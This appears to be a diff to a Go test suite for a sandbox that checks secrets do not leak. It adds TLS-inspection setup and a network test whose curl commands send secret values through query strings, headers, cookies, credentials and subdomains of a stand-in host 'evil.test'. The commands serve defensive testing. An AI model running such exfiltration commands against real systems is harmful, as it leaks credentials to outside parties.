@@ -41,8 +41,27 @@ func TestNoSecretLiesInTheHome(t *testing.T) {
 		t.Run("supervised "+driver, func(t *testing.T) {
 			t.Parallel()
 			l := newLab(t)
+			l.trusted()
 			newHoard(t, l.desk, l.try, "supervised", driver).play()
 		})
+	}
+}
+
+// trusted has the daemon's host trust the lab's authority, so that requests over TLS can be
+// looked at.
+func (l *lab) trusted() {
+	l.t.Helper()
+	all, err := os.ReadFile(systemCAs)
+	if err != nil {
+		l.t.Skip("needs ca-certificates: to trust one more")
+	}
+	ca, err := os.ReadFile(filepath.Join(l.root, "ca.pem"))
+	if err != nil {
+		l.t.Fatal(err)
+	}
+	bundle := l.write("bundle.pem", string(all)+string(ca))
+	if out, err := exec.Command(l.into[0], append(slices.Clone(l.into[1:]), "mount", "--bind", bundle, systemCAs)...).CombinedOutput(); err != nil {
+		l.t.Fatalf("%v: %s", err, out)
 	}
 }
 
@@ -108,7 +127,7 @@ func (h *hoard) make() {
 	file := filepath.Join(h.t.TempDir(), "policy.yaml")
 	text := "version: 1\nenv:\n  SERVICE_PASSWORD: " + h.secrets["policy"] + "\n"
 	if h.tier == "supervised" {
-		text += "network:\n  allow:\n    - {host: plain.lab.test, methods: [GET, POST]}\n    - {host: git.lab.test, methods: [GET]}\n    - www.lab.test\n"
+		text += "network:\n  allow:\n    - {host: plain.lab.test, ports: [80], methods: [GET, POST]}\n    - {host: git.lab.test, methods: [GET]}\n    - www.lab.test\n"
 	}
 	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
 		h.t.Fatal(err)
@@ -145,6 +164,9 @@ func (h *hoard) base() string {
 		}
 		give(f)
 	}
+	if err := os.Symlink("usr/bin", dir+"/bin"); err != nil && !os.IsExist(err) {
+		h.t.Fatal(err)
+	}
 	for _, name := range []string{"root", "tmp", "etc", "dev", "proc", "sys", "run"} {
 		if err := os.MkdirAll(filepath.Join(dir, name), 0o755); err != nil {
 			h.t.Fatal(err)
@@ -157,8 +179,8 @@ func (h *hoard) base() string {
 // files, directories and programs.
 func (h *hoard) commands() {
 	pieces := ""
-	for _, s := range h.secrets {
-		for _, c := range s {
+	for _, of := range []string{"sandbox", "policy", "exec", "token", "label"} { // what is a secret by now
+		for _, c := range h.secrets[of] {
 			pieces += "printf %s " + string(c) + "; "
 		}
 		pieces += "echo; "
@@ -257,13 +279,14 @@ func (h *hoard) names() {
 // where it may not.
 func (h *hoard) network() {
 	s := h.secrets
-	h.try("exec", hoarder, "--env", "SESSION_KEY="+s["exec"], "--", "bash", "-c", strings.Join([]string{
-		"curl -sk 'http://plain.lab.test/hello?token=" + s["exec"] + "&x=" + s["token"] + "' -H 'Authorization: Bearer " + s["sandbox"] + "' -H 'X-Any: " + s["policy"] + "'",
-		"curl -sk 'https://git.lab.test/hello/" + s["sandbox"] + "' -H 'Cookie: " + s["exec"] + "'",
-		"curl -sk -X DELETE 'https://git.lab.test/" + s["token"] + "'",
-		"curl -sk 'https://user:" + s["exec"] + "@www.lab.test/'",
-		"curl -sk 'http://" + s["sandbox"] + ".evil.test/'",
-		"curl -sk 'https://" + s["exec"] + ".evil.test/" + s["token"] + "'",
+	out := h.run("exec", hoarder, "--env", "SESSION_KEY="+s["exec"], "--", "bash", "-c", strings.Join([]string{
+		"exec 2>&1",
+		"curl -sSk 'http://plain.lab.test/hello?token=" + s["exec"] + "&x=" + s["token"] + "' -H 'Authorization: Bearer " + s["sandbox"] + "' -H 'X-Any: " + s["policy"] + "'",
+		"curl -sSk 'https://git.lab.test/hello/" + s["sandbox"] + "' -H 'Cookie: " + s["exec"] + "'",
+		"curl -sSk -X DELETE 'https://git.lab.test/" + s["token"] + "'",
+		"curl -sSk 'https://user:" + s["exec"] + "@www.lab.test/'",
+		"curl -sSk 'http://" + s["sandbox"] + ".evil.test/'",
+		"curl -sSk 'https://" + s["exec"] + ".evil.test/" + s["token"] + "'",
 		"true",
 	}, "; "))
 	var told string
@@ -272,7 +295,7 @@ func (h *hoard) network() {
 			return
 		}
 	}
-	h.t.Errorf("what was sent is not recorded: %s", told)
+	h.t.Errorf("what was sent is not recorded: %s\n%s", out, told)
 }
 
 // shown demands what must come back as it was.
